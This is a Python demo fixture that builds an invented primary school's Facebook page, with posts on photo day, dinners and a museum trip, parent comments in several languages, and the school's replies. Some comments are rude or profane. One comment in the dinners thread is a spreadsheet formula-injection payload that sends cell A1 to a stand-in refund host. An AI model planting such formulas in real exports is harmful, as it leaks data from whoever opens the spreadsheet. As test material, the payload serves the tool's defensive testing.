"""Oakfield Primary School's fortnight on Facebook. School, people and words are invented."""

from __future__ import annotations

from datetime import datetime

from monitor.demo.oakfield_facebook_midway import tell_midway
from monitor.demo.oakfield_facebook_recent import tell_recent
from monitor.demo.oakfield_people import (
    ABOUT,
    BEV,
    CARL,
    DANUTA,
    GARETH,
    HANNAH,
    JOSIE,
    KEV,
    MO,
    NIA,
    PAGE,
    PRIYA,
    RUTH,
    TOM,
    WIN,
)
from monitor.demo.story import Chronicle, Days, later
from monitor.demo.world import StoryPost, World


def facebook(days: Days) -> World:
    """The page and everything said there."""
    tell = Chronicle(World(PAGE, about=ABOUT), _post_id, _comment_id)
    _photo_day(tell, days)
    _dinners(tell, days)
    _museum(tell, days)
    tell_midway(tell, days)
    tell_recent(tell, days)
    return tell.world


def _post_id(number: int, _at: datetime) -> str:
    return f"{PAGE.id}_{2000 + number}"


def _comment_id(number: int, _at: datetime, post_id: str | None) -> str:
    return f"{(post_id or _post_id(0, _at)).split('_')[1]}_{9000 + number}"


def _photo_day(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "Individual and family photographs are being taken this week. Order forms come home in book bags.",
        days.school_day(10, "08:45"),
    )
    first = tell.says(PRIYA, "Can siblings be in one picture again this year?", days.school_day(10, "10:12"), post)
    tell.answers(first, "Yes, please bring them to the hall together before nine.", later(first.at, minutes=53))
    slow = tell.says(
        GARETH,
        "The proofs took nine weeks last time. Could someone chase the photographer a bit sooner, please?",
        days.school_day(10, "13:30"),
        post,
    )
    tell.answers(slow, "Fair point. We have asked for a date in writing this time.", later(slow.at, hours=1.6))
    ignored = tell.says(
        BEV,
        "I've e-mailed the office twice about my order and nobody has replied. Not good enough.",
        days.weekday_before("Tue", "10:00", weeks=1),
        post,
    )
    tell.answers(
        ignored,
        "We are sorry, Bev. It went to the wrong inbox; you have an answer now.",
        later(ignored.at, hours=49),
    )
    _photo_weekend(tell, days, post)
    thanks = tell.says(
        NIA,
        "Diolch i bawb yn y swyddfa! Roedd y plant wrth eu bodd, ac mae'r lluniau'n werth eu gweld.",
        days.school_day(9, "15:20"),
        post,
    )
    tell.answers(thanks, "Diolch, Nia! That made our day.", later(thanks.at, minutes=25))


def _photo_weekend(tell: Chronicle, days: Days, post: StoryPost) -> None:
    nursery = tell.says(
        MO, "Does that include nursery, or just Reception upwards?", days.weekend("Sat", "12:00", weeks=1), post
    )
    tell.answers(
        nursery, "Nursery too, Mo. Their turn is straight after register.", days.monday_after("08:40", weeks=1)
    )
    tell.says(
        RUTH, "Ours has lost his form already. Can we order without it?", days.weekend("Sat", "20:40", weeks=1), post
    )


def _dinners(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "The new dinner menu starts today. Have a look and tell us what you think.", days.school_day(9, "12:05")
    )
    praise = tell.says(
        TOM, "Mine had seconds of the pasta. Please thank the kitchen from us!", days.school_day(9, "16:45"), post
    )
    tell.answers(praise, "We've passed it on. They are beaming.", later(praise.at, minutes=20))
    milk = tell.says(
        DANUTA,
        "Dzień dobry, czy będzie coś bez laktozy? Córka źle się czuje po zwykłym mleku.",
        days.school_day(9, "17:10"),
        post,
    )
    tell.answers(
        milk, "Dzień dobry! Yes, there's an oat option every day. Ask at the hatch.", later(milk.at, minutes=25)
    )
    price = tell.says(
        CARL,
        "Nearly three quid a day for a bread roll and half a sausage? My lad came home starving. It's a rip-off "
        "and I want to know who signed it off.",
        days.school_day(9, "20:05"),
        post,
    )
    tell.answers(
        price,
        "Sorry to hear that, Carl. Seconds of everything but pudding are free, and we'll make sure he knows. The "
        "price is set by the governors: their clerk's address is on our website.",
        later(price.at, hours=13),
    )
    _more_on_dinners(tell, days, post)


def _more_on_dinners(tell: Chronicle, days: Days, post: StoryPost) -> None:
    early = tell.says(HANNAH, "Is the fish still on the menu at all?", days.school_day(8, "09:10"), post)
    again = tell.says(HANNAH, "Sorry, also: who do I tell about a nut allergy?", days.school_day(8, "11:45"), early)
    tell.answers(
        again,
        "Hi Hannah: fish every week, and please ring the office today about the allergy.",
        later(early.at, hours=3.5),
    )
    portions = tell.says(
        KEV, "Portions are absolute crap and you bloody well know it.", days.school_day(8, "12:50"), post
    )
    rude = tell.says(
        KEV,
        "Whoever dreamt up this menu is a complete idiot.",
        days.school_day(8, "13:05"),
        post,
        hidden_at=days.school_day(8, "17:00"),
    )
    tell.answers(
        portions,
        "Hi Kev, come and see a plate for yourself: any day at twelve, just sign in at the desk.",
        later(portions.at, minutes=35),
    )
    tell.answers(rude, "Kev, please keep it civil. Real people cook these dinners.", later(rude.at, minutes=24))
    tell.says(
        WIN,
        '=HYPERLINK("http://dinner-refund.invalid/?p="&A1,"Claim your refund")',
        days.school_day(8, "17:30"),
        post,
    )


def _museum(tell: Chronicle, days: Days) -> None:
    post = tell.post(
        "Year 4 spent the day with the mummies at the museum. More pictures to follow!", days.school_day(8, "15:30")
    )
    lovely = tell.says(
        JOSIE, "What a day they had. Well done to all the staff who went along.", days.school_day(8, "15:50"), post
    )
    tell.answers(lovely, "Thank you, Josie. They were a credit to you all.", later(lovely.at, minutes=20))
    agreed = tell.says(
        RUTH, "Hear, hear. Ours hasn't stopped talking since he got in.", later(lovely.at, minutes=30), lovely
    )
    wrapped = tell.says(
        TOM, "Same here. We've had every bandage out of the first-aid box 😂", later(agreed.at, minutes=20), agreed
    )
    tell.answers(agreed, "Nor has Mr Farthingale!", later(agreed.at, minutes=35))
    tell.answers(wrapped, "Well, it is practice for the first-aid badge 😄", later(wrapped.at, minutes=18))
    album = tell.says(PRIYA, "When's the rest of the album going up?", days.school_day(7, "09:25"), post)
    tell.answers(album, "By the end of today, once permissions are checked.", later(album.at, hours=1.2))
    coach = tell.says(None, "Which coach firm was that? Ours is looking for one.", days.school_day(7, "12:10"), post)
    tell.answers(coach, "Garrowby Coaches, and the driver was a star.", later(coach.at, minutes=50))
    wordless = tell.says(NIA, "", days.school_day(7, "15:31"), post)
    tell.answers(wordless, "😊 Thanks, Nia.", later(wordless.at, minutes=22))
    clapping = tell.says(JOSIE, "👏👏👏🦴", days.school_day(7, "19:02"), post)
    tell.answers(clapping, "We'll show Year 4 this morning!", later(clapping.at, hours=13.3))
